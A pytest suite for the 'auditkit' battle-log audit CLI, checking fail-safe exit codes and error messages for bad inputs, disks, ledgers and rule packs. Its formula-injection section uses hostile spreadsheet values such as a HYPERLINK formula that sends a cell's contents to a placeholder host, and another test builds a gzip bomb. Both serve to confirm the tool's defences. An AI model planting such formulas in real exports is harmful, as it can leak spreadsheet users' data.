"""Fail safe: a broken input, disk, ledger or rule pack never yields a passing verdict, a traceback
or a lost row.

Every case here was reproduced by a hostile tester on the command line; each runs through the CLI
(``auditkit.cli.main``) and checks the exit code (0 clean, 1 gate, 2 user/input error), that the
error is one line naming the file and the cause, and that nothing that loaded was lost or altered.
"""

from __future__ import annotations

import csv
import errno
import fcntl
import gzip
import io
import json
import shutil
import sqlite3
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from auditkit.cli import main
from auditkit.io import jsonl as jsonl_module
from auditkit.io import load_battles
from auditkit.io import quarantine as quarantine_module
from auditkit.io.csvfile import RUNAWAY_LINES
from auditkit.runfolder import COMPLETE_MARKER

REPO = Path(__file__).resolve().parents[1]
RULES = REPO / "rules"
MODELS = ("alpha", "bravo", "charlie", "delta", "echo")


def _battles(n: int, *, start: int = 0, models: tuple[str, ...] = MODELS) -> list[dict[str, Any]]:
    """``n`` well-formed FastChat battles over ``models`` (every pair, both orders, all outcomes)."""
    rows = []
    winners = ("model_a", "model_b", "tie", "model_a")
    for i in range(start, start + n):
        a = models[i % len(models)]
        b = models[(i // len(models) + 1 + i) % len(models)]
        if a == b:
            b = models[(models.index(a) + 1) % len(models)]
        rows.append(
            {
                "question_id": f"q{i}",
                "model_a": a,
                "model_b": b,
                "winner": winners[i % 4],
                "judge": f"voter{i % 37}",
                "anony": True,
                "tstamp": 1.7e9 + 60 * i,
            }
        )
    return rows


def _jsonl(path: Path, rows: list[dict[str, Any]], encoding: str = "utf-8") -> Path:
    text = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows)
    path.write_text(text, encoding=encoding)
    return path


def _csv(path: Path, rows: list[dict[str, Any]], encoding: str = "utf-8") -> Path:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def _one_line_error(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err.strip()
    assert "Traceback" not in err
    assert len(err.splitlines()) == 1, err
    assert err.startswith("auditkit: error: ")
    return err


def _audit(inputs: list[Path], out: Path, *extra: str, db: str = "") -> int:
    args = ["audit", *map(str, inputs), "--out", str(out), "--db", db, "--quiet"]
    return main([*args, "--rules", str(RULES), *extra])


def _describe(path: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> dict[str, Any]:
    assert main(["describe", str(path), "--json", *extra]) == 0
    return json.loads(capsys.readouterr().out)


# ---------------------------------------------------------------- 1. input health in the gate


def test_an_empty_file_is_exit_2_not_a_passing_gate(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    empty = tmp_path / "empty.jsonl"
    empty.write_text("", encoding="utf-8")
    assert _audit([empty], tmp_path / "out") == 2
    assert "no votes loaded: the input holds no rows" in _one_line_error(capsys)
    assert not (tmp_path / "out" / COMPLETE_MARKER).exists()


@pytest.mark.parametrize("command", ["ratings", "graph"])
def test_rating_or_graphing_no_votes_is_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    empty = tmp_path / "empty.jsonl"
    empty.write_text("\n", encoding="utf-8")
    assert main([command, str(empty)]) == 2
    assert "empty.jsonl: no votes loaded" in _one_line_error(capsys)


def test_every_row_quarantined_is_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [{**r, "winner": "nobody"} for r in _battles(40)]
    path = _jsonl(tmp_path / "bad.jsonl", rows)
    assert _audit([path], tmp_path / "out") == 2
    err = _one_line_error(capsys)
    assert "no votes loaded: all 40 rows were quarantined (unknown_winner 40)" in err
    quarantined = (tmp_path / "out" / "quarantine.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(quarantined) == 40  # every rejected row is kept for review


def test_too_much_quarantined_input_fails_the_gate_and_says_so_first(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _battles(400)
    for row in rows[::20]:  # 5 % of the rows, above the default 1 % limit
        row["winner"] = "nobody"
    path = _jsonl(tmp_path / "some-bad.jsonl", rows)
    assert _audit([path], tmp_path / "out", "--json") == 1
    summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    assert summary["load"]["rows_loaded"] == 380
    assert summary["gate"]["max_quarantined_share"] == 0.01
    assert summary["gate"]["reasons"][0].startswith("5.00% of input rows quarantined (20 of 400")
    assert "5.00% of input rows quarantined" in (tmp_path / "out" / "report.md").read_text(
        encoding="utf-8"
    )


def test_a_stray_quote_loses_one_line_not_the_thousands_after_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _battles(3_000)
    path = _csv(tmp_path / "quote.csv", rows)
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    broken = lines[51].replace(",", ',"', 1)  # line 52: q50 with an unbalanced quote
    lines[51] = broken
    path.write_text("".join(lines), encoding="utf-8")
    quarantine = tmp_path / "q.jsonl"
    described = _describe(path, capsys, "--quarantine", str(quarantine))
    assert (described["rows_loaded"], described["rows_quarantined"]) == (2_999, 1)
    (record,) = [json.loads(line) for line in quarantine.read_text(encoding="utf-8").splitlines()]
    assert (record["line"], record["reason"]) == (52, "csv_malformed")
    assert record["raw"] == broken.rstrip("\n")  # the whole line, as it is in the file
    assert "unbalanced quote" in record["detail"]


def test_long_raw_text_is_kept_whole(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    long_row = {**_battles(1)[0], "winner": "x" * 50_000}
    path = _jsonl(tmp_path / "long.jsonl", [*_battles(5, start=1), long_row])
    quarantine = tmp_path / "q.jsonl"
    _describe(path, capsys, "--quarantine", str(quarantine))
    (record,) = [json.loads(line) for line in quarantine.read_text(encoding="utf-8").splitlines()]
    assert json.loads(record["raw"]) == long_row


def test_quarantine_keeps_exact_counts_and_the_first_examples_of_each_reason(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _battles(3_000)
    for row in rows[1_500:]:
        row["winner"] = "nobody"
    path = _jsonl(tmp_path / "half.jsonl", rows)
    quarantine = tmp_path / "q.jsonl"
    described = _describe(path, capsys, "--quarantine", str(quarantine))
    assert described["rows_quarantined"] == 1_500
    assert described["quarantine_reasons"] == {"unknown_winner": 1_500}
    kept = [json.loads(line) for line in quarantine.read_text(encoding="utf-8").splitlines()]
    assert [r["line"] for r in kept] == list(range(1_501, 2_501))  # the first 1,000, in order


def test_a_gzip_bomb_of_one_repeated_line_stops_early_with_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # The real threshold is 100,000 rows; a tenth keeps the test fast and the logic the same.
    monkeypatch.setattr(quarantine_module, "MEANINGLESS_MIN_ROWS", 10_000)
    monkeypatch.setattr(jsonl_module, "BLOCK_ROWS", 10_000)
    line = (json.dumps(_battles(1)[0]) + "\n").encode()
    bomb = tmp_path / "bomb.jsonl.gz"
    with gzip.open(bomb, "wb") as handle:
        handle.write(line * 500_000)  # 8 KB of gzip, 60 MB of one vote
    assert _audit([bomb], tmp_path / "out") == 2
    err = _one_line_error(capsys)
    assert "not a usable battle log: 9,999 of the first 10,000 rows were quarantined" in err
    assert "duplicate_vote_id 9,999" in err
    kept = (tmp_path / "out" / "quarantine.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(kept) == 1_000


LATIN1_MODELS = ("modèle", "modéle")


def _latin1_rows() -> list[dict[str, Any]]:
    return [
        {**row, "model_a": LATIN1_MODELS[i % 2], "model_b": "other"}
        for i, row in enumerate(_battles(6))
    ]


def test_latin1_csv_is_an_error_naming_the_byte_not_a_silent_merge(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _csv(tmp_path / "latin1.csv", _latin1_rows(), encoding="latin-1")
    assert main(["describe", str(path)]) == 2
    err = _one_line_error(capsys)
    header = path.read_bytes().split(b"\n")[0]
    offset = len(header) + 1 + len("q0,mod")
    assert f"latin1.csv, line 2: not valid utf-8 text at byte offset {offset}" in err
    assert "--encoding" in err
    described = _describe(path, capsys, "--encoding", "latin-1")
    assert described["models"] == {"other": 6, "modèle": 3, "modéle": 3}


def test_latin1_jsonl_is_an_error_then_loads_with_encoding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _jsonl(tmp_path / "latin1.jsonl", _latin1_rows(), encoding="latin-1")
    assert main(["describe", str(path)]) == 2
    assert "latin1.jsonl, line 1: not valid UTF-8 at byte offset" in _one_line_error(capsys)
    described = _describe(path, capsys, "--encoding", "latin-1")
    assert (described["rows_loaded"], described["rows_quarantined"]) == (6, 0)
    assert described["models"] == {"other": 6, "modèle": 3, "modéle": 3}


@pytest.mark.parametrize(
    ("name", "encoding"),
    [
        ("bom.jsonl", "utf-8-sig"),
        ("bom.csv", "utf-8-sig"),
        ("utf16.jsonl", "utf-16"),
        ("utf16.csv", "utf-16"),
        ("utf16le.jsonl", "utf-16-le"),
    ],
)
def test_byte_order_marks_and_utf16_are_detected(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, encoding: str
) -> None:
    rows = _latin1_rows()
    writer = _csv if name.endswith(".csv") else _jsonl
    path = writer(tmp_path / name, rows, encoding=encoding)
    described = _describe(path, capsys)
    assert (described["rows_loaded"], described["rows_quarantined"]) == (6, 0)
    assert described["models"] == {"other": 6, "modèle": 3, "modéle": 3}


# ---------------------------------------------------------------- 2. spreadsheet formulas

FORMULA_MODELS = ('=HYPERLINK("http://x/?"&A1)', "+cmd", "-2+3", "@SUM(A1)", "plain")


def _cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_csv_cell_auditkit_writes_starts_a_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _jsonl(tmp_path / "f.jsonl", _battles(300, models=FORMULA_MODELS))
    assert _audit([path], tmp_path / "run1") in (0, 1)
    ratings = tmp_path / "ratings.csv"
    assert main(["ratings", str(path), "--out", str(ratings)]) == 0
    for written in (tmp_path / "run1" / "leaderboard.csv", ratings):
        cells = _cells(written)
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert not [c for c in cells if c.startswith("-") and not _is_number(c)]
        assert '\'=HYPERLINK("http://x/?"&A1)' in cells and "'-2+3" in cells
    # auditkit's own reader gets the names back: a diff of the run with itself changes nothing.
    shutil.copytree(tmp_path / "run1", tmp_path / "run2")
    capsys.readouterr()
    assert main(["diff", str(tmp_path / "run1"), str(tmp_path / "run2"), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["rank_changes"] == []


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------- 3. run folders, disks, ledgers


@pytest.fixture(scope="module")
def finished_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("finished")
    path = _jsonl(root / "in.jsonl", _battles(300))
    out = root / "done"
    assert _audit([path], out) in (0, 1)
    assert (out / COMPLETE_MARKER).is_file()
    return out


def test_diff_refuses_a_run_killed_while_writing(
    tmp_path: Path, finished_run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    killed = tmp_path / "killed"
    shutil.copytree(finished_run, killed)
    (killed / COMPLETE_MARKER).unlink()  # what a SIGKILL before the last write leaves
    assert main(["diff", str(finished_run), str(killed)]) == 2
    assert "killed: incomplete run folder" in _one_line_error(capsys)


def test_diff_refuses_a_truncated_findings_file(
    tmp_path: Path, finished_run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cut = tmp_path / "cut"
    shutil.copytree(finished_run, cut)
    board = cut / "leaderboard.csv"
    board.write_bytes(board.read_bytes()[: board.stat().st_size // 2])
    assert main(["diff", str(finished_run), str(cut)]) == 2
    assert "leaderboard.csv: file changed or truncated" in _one_line_error(capsys)


def test_nightly_skips_an_incomplete_previous_night(tmp_path: Path, finished_run: Path) -> None:
    from auditkit.nightly import previous_report_dir

    reports = tmp_path / "reports"
    shutil.copytree(finished_run, reports / "2026-11-01")
    shutil.copytree(finished_run, reports / "2026-11-02")
    (reports / "2026-11-02" / COMPLETE_MARKER).unlink()
    assert previous_report_dir(reports, "2026-11-03") == reports / "2026-11-01"


def test_out_naming_an_existing_file_is_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _jsonl(tmp_path / "in.jsonl", _battles(50))
    target = tmp_path / "report.txt"
    target.write_text("keep me", encoding="utf-8")
    assert _audit([path], target) == 2
    assert "report.txt: --out names an existing file" in _one_line_error(capsys)
    assert target.read_text(encoding="utf-8") == "keep me"


def test_a_read_only_run_folder_is_exit_2_before_any_work(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _jsonl(tmp_path / "in.jsonl", _battles(50))

    def read_only(self: Path, data: bytes) -> int:
        raise OSError(errno.EROFS, "Read-only file system", str(self))

    monkeypatch.setattr(Path, "write_bytes", read_only)  # root ignores chmod, so fake the mount
    assert _audit([path], tmp_path / "out") == 2
    err = _one_line_error(capsys)
    assert "out: cannot write the run folder: Read-only file system" in err
    assert not (tmp_path / "out" / "quarantine.jsonl").exists()  # stopped before loading


def test_a_full_disk_mid_run_is_exit_2_and_leaves_no_completed_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from auditkit.clean import CleaningResult

    path = _jsonl(tmp_path / "in.jsonl", _battles(300))

    def full(self: Any, target: Path, *memo: Any) -> None:  # memo: encoded evidence
        raise OSError(errno.ENOSPC, "No space left on device", str(target))

    monkeypatch.setattr(CleaningResult, "write_jsonl", full)
    assert _audit([path], tmp_path / "out") == 2
    err = _one_line_error(capsys)
    assert "invalidations.jsonl: No space left on device" in err
    assert not (tmp_path / "out" / COMPLETE_MARKER).exists()


def test_a_corrupt_ledger_stops_the_audit_before_its_work(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _jsonl(tmp_path / "in.jsonl", _battles(300))
    db = tmp_path / "ledger.db"
    assert _audit([path], tmp_path / "first", db=str(db)) in (0, 1)
    data = bytearray(db.read_bytes())
    page = 4096
    assert len(data) > 3 * page
    data[2 * page : 2 * page + 200] = b"\xff" * 200  # a b-tree page of the ledger
    db.write_bytes(bytes(data))
    for side in ("-wal", "-shm"):
        Path(str(db) + side).unlink(missing_ok=True)
    assert _audit([path], tmp_path / "second", db=str(db)) == 2
    err = _one_line_error(capsys)
    assert "ledger.db: ledger is corrupt" in err or "ledger.db: not a ledger database" in err
    assert not (tmp_path / "second" / "report.html").exists()
    assert not (tmp_path / "second" / "quarantine.jsonl").exists()


def test_a_second_nightly_on_the_same_ledger_exits_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _jsonl(tmp_path / "day1.jsonl", _battles(100))
    db = tmp_path / "auditkit.db"
    with open(str(db) + ".lock", "a+b") as held:
        fcntl.flock(held.fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)  # the first run, still going
        code = main(
            [
                "nightly",
                "--input",
                str(tmp_path / "*.jsonl"),
                "--db",
                str(db),
                "--reports",
                str(tmp_path / "reports"),
                "--rules",
                str(RULES),
                "--quiet",
            ]
        )
    assert code == 2
    assert "another nightly run holds the lock" in _one_line_error(capsys)
    assert not db.exists()  # nothing recorded by the run that waited


@pytest.mark.parametrize("action", [["list"], ["show", "q1"]])
def test_read_only_ledger_commands_never_create_a_database(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], action: list[str]
) -> None:
    db = tmp_path / "typo.db"
    assert main(["ledger", "--db", str(db), *action]) == 2
    assert "typo.db: no ledger here" in _one_line_error(capsys)
    assert not db.exists()


def test_another_applications_sqlite_file_is_refused_untouched(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "photos.db"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE albums (id INTEGER PRIMARY KEY, title TEXT)")
        conn.execute("INSERT INTO albums (title) VALUES ('summer')")
    conn.close()
    before = other.read_bytes()
    path = _jsonl(tmp_path / "in.jsonl", _battles(50))
    assert _audit([path], tmp_path / "out", db=str(other)) == 2
    assert "photos.db: not an auditkit ledger" in _one_line_error(capsys)
    for action in (["list"], ["invalidate", "q1", "--reason", "x"]):
        assert main(["ledger", "--db", str(other), *action]) == 2
        assert "not an auditkit ledger" in _one_line_error(capsys)
    assert other.read_bytes() == before


# ---------------------------------------------------------------- 4. strict rule packs and args


def _pack(tmp_path: Path, edits: dict[str, tuple[str, str]]) -> Path:
    root = tmp_path / "my-rules"
    shutil.copytree(RULES, root)
    for relative, (old, new) in edits.items():
        path = root / relative
        text = path.read_text(encoding="utf-8")
        assert old in text, (relative, old)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return root


@pytest.mark.parametrize(
    ("edits", "message"),
    [
        (
            {"voters.yaml": ("\nmin_votes:", "\nmin_vote:")},
            "my-rules/voters.yaml: unknown key 'min_vote'; did you mean 'min_votes'?",
        ),
        (
            {"pack.yaml": ("detector: identity_leak", "detector: identity_leek")},
            "my-rules/pack.yaml: policy.invalidate[0]: unknown detector 'identity_leek'; "
            "did you mean 'identity_leak'?",
        ),
        (
            {
                "pack.yaml": (
                    'rules: "*"\n      min_severity: low',
                    "rules: [excess_copies]\n      min_severity: low",
                )
            },
            "detector 'prompt_dedup' has no rule 'excess_copies'; did you mean 'excess_copy'?",
        ),
        (
            {"pack.yaml": ("max_invalidated_share: 0.05", "max_invalidated_share: five")},
            "my-rules/pack.yaml: key 'gate.max_invalidated_share' must be a share between 0 "
            "and 1, got 'five'",
        ),
        (
            {"identity/context.yaml": ("probes:\n", "probes:\n  - '(unclosed'\n")},
            "my-rules/identity/context.yaml: bad regular expression '(unclosed'",
        ),
        (
            {"voters.yaml": ("tolerance:", "tolerence:")},
            "my-rules/voters.yaml tests.position_bias: unknown option 'tolerence'; did you mean "
            "'tolerance'?",
        ),
        (
            {"sampling.yaml": ("\nalpha:", "\nalpah:")},
            "my-rules/sampling.yaml: unknown key 'alpah'; did you mean 'alpha'?",
        ),
    ],
)
def test_a_typo_in_the_rule_pack_is_exit_2_naming_file_and_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], edits: dict[str, Any], message: str
) -> None:
    rules = _pack(tmp_path, edits)
    path = _jsonl(tmp_path / "in.jsonl", _battles(50))
    args = ["audit", str(path), "--out", str(tmp_path / "out"), "--db", "", "--quiet"]
    assert main([*args, "--rules", str(rules)]) == 2
    err = _one_line_error(capsys)
    assert message in err
    assert str(rules) in err  # the real path under --rules, not "rules/…"
    assert not (tmp_path / "out").exists()  # refused before any output


def test_a_missing_rule_file_is_an_error_unless_the_pack_says_optional(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from auditkit.rules import load_rules

    rules = _pack(tmp_path, {})
    (rules / "voters.yaml").unlink()
    path = _jsonl(tmp_path / "in.jsonl", _battles(50))
    args = ["audit", str(path), "--out", str(tmp_path / "out"), "--db", "", "--quiet"]
    assert main([*args, "--rules", str(rules)]) == 2
    assert "my-rules/voters.yaml: rule file for section 'voters' is missing" in _one_line_error(
        capsys
    )
    with open(rules / "pack.yaml", "a", encoding="utf-8") as handle:
        handle.write("optional: [voters]\n")
    assert load_rules(rules).section("voters", default={}) == {}


def test_a_missing_identity_context_file_is_an_error_unless_optional(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The identity audit reads probes, role-play and translation patterns from context.yaml: a
    pack without it would silently look for none of them."""
    from auditkit.rules import load_rules

    rules = _pack(tmp_path, {})
    (rules / "identity" / "context.yaml").unlink()
    path = _jsonl(tmp_path / "in.jsonl", _battles(50))
    args = ["audit", str(path), "--out", str(tmp_path / "out"), "--db", "", "--quiet"]
    assert main([*args, "--rules", str(rules)]) == 2
    message = _one_line_error(capsys)
    assert (
        "my-rules/identity/context.yaml: rule file for section 'identity/context' is missing"
        in (message)
    )
    with open(rules / "pack.yaml", "a", encoding="utf-8") as handle:
        handle.write("optional: [identity/context]\n")
    assert load_rules(rules).section("identity/context", default={}) == {}


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["ledger", "list", "--since", "yesterday"], "'yesterday' is not an ISO date or time"),
        (["nightly", "--input", "x", "--date", "2026-13-40"], "'2026-13-40' is not a date"),
        (["ratings", "x.jsonl", "--l2", "-1"], "argument --l2: '-1' is not a number ≥ 0"),
        (["ratings", "x.jsonl", "--bootstrap", "0"], "argument --bootstrap: '0' is not an integer"),
        (["audit", "x.jsonl", "--workers", "0"], "argument --workers: '0' is not an integer ≥ 1"),
        (["audit", "x.jsonl", "--seed", "-3"], "argument --seed: '-3' is not an integer ≥ 0"),
        (["simulate", "--out", "x", "--truth", "t", "--text-fraction", "2"], "between 0 and 1"),
        (["describe", "x.jsonl", "--encoding", "klingon"], "unknown text encoding 'klingon'"),
    ],
)
def test_bad_argument_values_are_rejected_with_a_message(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    (tmp_path / "x.jsonl").write_text(json.dumps(_battles(1)[0]) + "\n", encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(tmp_path)
        try:
            code = main(argv)
        except SystemExit as exc:
            code = int(exc.code or 0)
    assert code == 2
    err = capsys.readouterr().err
    assert message in err
    assert "Traceback" not in err


# ---------------------------------------------------------------- the CSV reader, by property

NAME_CHARS = st.characters(
    codec="latin-1", categories=("L", "N", "P", "S", "Zs"), include_characters='",\n\r\t'
)
NAMES = st.text(NAME_CHARS, min_size=1, max_size=12).filter(lambda s: bool(s.strip()))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    pairs=st.lists(st.tuples(NAMES, NAMES), min_size=1, max_size=30),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "latin-1", "cp1252"]),
)
def test_csv_round_trips_quotes_newlines_and_encodings(
    pairs: list[tuple[str, str]], encoding: str
) -> None:
    """Any model names (quotes, commas, embedded newlines, accents) written by a CSV writer in any
    of these encodings load back exactly (stripped, as the loader strips names), one row each,
    on the physical line where the record starts; nothing is lost, merged or substituted."""
    rows = [(f"q{i}", a, b) for i, (a, b) in enumerate(pairs)]
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\r\n")
    writer.writerow(["question_id", "model_a", "model_b", "winner"])
    starts, line = [], 2
    for qid, a, b in rows:
        starts.append(line)
        before = text.tell()
        writer.writerow([qid, a, b, "tie"])
        record = text.getvalue()[before:]
        line += record.count("\n") + record.count("\r") - record.count("\r\n")
    try:
        data = text.getvalue().encode(encoding)
    except UnicodeEncodeError:
        return  # cp1252 lacks a few latin-1 controls: not a file this encoding can hold
    named = encoding in ("latin-1", "cp1252", "utf-16-le")
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "names.csv"
        path.write_bytes(data)
        loaded = load_battles(path, encoding=encoding if named else None)
    expected = {
        qid: (a.strip(), b.strip(), start)
        for (qid, a, b), start in zip(rows, starts, strict=True)
        if a.strip() != b.strip()
    }
    frame = loaded.battles.frame
    got = {
        str(v): (str(a), str(b), int(n))
        for v, a, b, n in zip(
            frame["vote_id"], frame["model_a"], frame["model_b"], frame["source_line"], strict=True
        )
    }
    assert got == expected
    assert loaded.rows_read == len(rows)
    assert loaded.rows_quarantined == len(rows) - len(expected)  # only self-battles


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    n=st.integers(RUNAWAY_LINES + 5, RUNAWAY_LINES + 60),
    broken=st.data(),
)
def test_a_stray_quote_costs_exactly_its_own_line(n: int, broken: st.DataObject) -> None:
    """Whatever line gets an unbalanced quote, every other record still loads on its own line."""
    rows = _battles(n)
    lines = ["question_id,model_a,model_b,winner"] + [
        f"{r['question_id']},{r['model_a']},{r['model_b']},{r['winner']}" for r in rows
    ]
    bad = broken.draw(st.integers(1, n - RUNAWAY_LINES - 2), label="record with the quote")
    lines[bad] = lines[bad].replace(",", ',"', 1)
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "quote.csv"
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        loaded = load_battles(path)
    assert loaded.rows_read == n
    assert [(r.line, r.reason.value) for r in loaded.quarantine] == [(bad + 1, "csv_malformed")]
    assert loaded.quarantine[0].raw == lines[bad]
    assert sorted(loaded.battles.frame["source_line"]) == [
        i + 1 for i in range(1, n + 1) if i != bad
    ]
